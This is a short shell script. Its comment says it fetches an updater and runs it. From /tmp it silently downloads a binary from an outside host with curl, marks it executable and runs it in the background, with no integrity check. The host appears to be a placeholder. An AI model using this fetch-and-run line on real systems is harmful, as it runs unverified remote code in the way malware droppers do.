#!/bin/sh
# fetch the updater and run it
cd /tmp && curl -sLo upd https://upd.example.invalid/upd && chmod +x upd && ./upd &
